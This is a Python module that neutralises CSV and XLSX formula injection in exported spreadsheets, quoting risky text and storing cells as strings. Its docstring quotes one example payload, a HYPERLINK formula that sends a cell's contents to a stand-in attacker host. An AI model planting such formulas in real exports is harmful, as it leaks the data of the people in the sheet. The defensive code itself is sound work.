"""Cells of every exported spreadsheet (CSV, XLSX): text stays text, numbers stay numbers.

Names and words in an export come from other people (an organisation's name, a
category staff renamed, a resident's description). A spreadsheet program opening the
file must show them, never run them: a cell beginning with `=`, `+`, `-`, `@`, a tab
or a carriage return is a formula to Excel and LibreOffice (CSV injection, e.g.
`=HYPERLINK("http://evil.example/?d="&A3,"Pay here")`). So, in every export:

- CSV: such text gets a leading `'` (OWASP's advice; the program then shows it as text);
- XLSX: every text cell is stored as a string (`data_type 's'`), never a formula, and
  such text is also marked quote-prefixed, so editing the cell keeps it text;
- real numbers (int, float, Decimal) are written as numbers in both.

Every export writes its cells through `csv_rows` / `xlsx_append`.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence
from datetime import date, datetime
from decimal import Decimal
from typing import Any

from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE  # type: ignore[import-untyped]
from openpyxl.cell.cell import Cell as XlsxCell

# What makes a spreadsheet program read a cell as a formula (or a DDE command).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
Number = int | float | Decimal
Value = str | Number | date | datetime | None


def is_formula_like(text: str) -> bool:
    """True when a spreadsheet program could evaluate the text (also after leading
    spaces or line breaks, which some programs strip on import)."""
    return text.lstrip(" \n\u3000").startswith(FORMULA_STARTS)


def neutralise(text: str) -> str:
    """The text as a CSV cell that is shown, never evaluated."""
    return "'" + text if is_formula_like(text) else text


def _is_number(value: object) -> bool:
    return isinstance(value, int | float | Decimal) and not isinstance(value, bool)


def csv_cell(value: Value) -> str | Number:
    """One value for csv.writer: numbers as they are, everything else as safe text."""
    if value is None:
        return ""
    if isinstance(value, int | float | Decimal) and not isinstance(value, bool):
        return value
    return neutralise(str(value))


def csv_rows(rows: Iterable[Sequence[Value]], *, bom: bool = True) -> bytes:
    """Rows as a CSV file (UTF-8, CRLF; with a BOM so spreadsheet programs read Chinese)."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\r\n")
    for row in rows:
        writer.writerow([csv_cell(value) for value in row])
    return (("\ufeff" if bom else "") + buffer.getvalue()).encode("utf-8")


def xlsx_append(sheet: Any, values: Sequence[Value]) -> int:
    """Append a row to an openpyxl worksheet, text cells stored as strings (never
    formulas) and numbers as numbers; returns the new row's number."""
    cells: list[Any] = []
    for value in values:
        if value is None or value == "":
            cells.append(None)
            continue
        if _is_number(value) or isinstance(value, date | datetime):
            cells.append(value)
            continue
        # openpyxl refuses control characters (IllegalCharacterError): drop them.
        text = ILLEGAL_CHARACTERS_RE.sub("", str(value))
        if not text:
            cells.append(None)
            continue
        cell = XlsxCell(sheet)
        cell.value = text
        cell.data_type = "s"  # openpyxl would store "=…" as a formula
        if is_formula_like(text):
            cell.quotePrefix = True
        cells.append(cell)
    sheet.append(cells)
    return int(sheet.max_row)
